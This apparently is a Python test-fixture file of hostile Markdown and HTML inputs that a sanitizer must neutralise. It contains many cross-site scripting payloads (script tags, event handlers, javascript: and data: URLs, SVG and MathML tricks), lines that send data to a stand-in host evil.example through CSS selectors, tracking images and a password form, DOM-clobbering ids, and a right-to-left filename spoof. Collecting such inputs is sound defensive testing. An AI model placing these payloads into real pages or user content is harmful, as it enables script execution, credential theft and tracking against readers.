"""Markdown written to attack a reader; each line or block must come out harmless."""

ONE_LINE = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="/media/a.svg" onload="alert(1)">
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<form action="https://evil.example"><input name=password></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import "https://evil.example/x.css";</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<div style="background:url(javascript:alert(1))">x</div>
<p style="position:fixed;inset:0">cover</p>
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<!-- never closed <img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo '<script>alert(1)</script>' ?>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a id="csrf_token" name="csrf_token">x</a>
<p id="app" class="btn primary dialog">x</p>
<img name=getElementById>
<h2 id="s-1">mine</h2>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](https://e.example "onmouseover=alert(1)")
[x](https://e.example" onmouseover="alert(1))
[<img src=x onerror=alert(1)>](https://e.example)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](https://evil.example/spy.png)
![x](//evil.example/spy.png)
![x](\\evil.example\spy.png)
![" onerror="alert(1)](images/a.svg)
![x](images/a.svg" onerror="alert(1))
![x](../../secret.svg)
<javascript:alert(1)>
<javascript://alert(1)>
<https://e.example/"onmouseover="alert(1)>
<a@b.example" onclick="alert(1)>
`<script>alert(1)</script>`
**<script>alert(1)</script>**
# <img src=x onerror=alert(1)>
## x {#csrf_token .btn onclick=alert(1)}
x {: onclick="alert(1)" id="csrf_token" }
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script\>alert(1)\</script\>
> <script>alert(1)</script>
* <img src=x onerror=alert(1)>
<a href="https://e.example" target="_blank" ping="https://evil.example">x</a>
<x-hato onclick=alert(1)>x</x-hato>
""".strip().split("\n")

BLOCKS = (
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    '| a" onfocus="alert(1)" autofocus=" | b |\n|---|---|\n| c | d |',
    "| `<div class=\"scroll\">` | </div></div><script>alert(1)</script> |\n|---|---|\n| c | d |",
    '/// case | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///',
    '/// details | "><script>alert(1)</script>\nx\n///',
    '/// note | x\n    attrs: {id: csrf_token, onclick: "alert(1)"}\n\ny\n///',
    '``` {#csrf_token .btn onclick="alert(1)"}\n</code></pre><script>alert(1)</script>\n```',
    '```html" onclick="alert(1)\n<b>\n```',
    "[x]\n\n[x]: javascript:alert(1)",
    "![x]\n\n[x]: https://evil.example/spy.png 'onerror=alert(1)'",
    "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
    "<script>\nalert(1)\n",
    "<!--\n\n<img src=x onerror=alert(1)>\n\n",
    "<textarea>\n\n<img src=x onerror=alert(1)>\n",
    "term\n:   <script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "1. a\n\n    <svg onload=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "[x](java\tscript:alert(1))\n\n[y](java\nscript:alert(1))",
)

SMUGGLED = (
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03<b>", "a\x02amp\x03lt;script\x02amp\x03gt;", "\x0260\x03script\x0262\x03",
    "x\x00y", "\x1b[31m", "\x7f", "a\u202ecod.exe", "\ud800",
)
"""Texts with control characters, among them the parser's own placeholders: refused."""
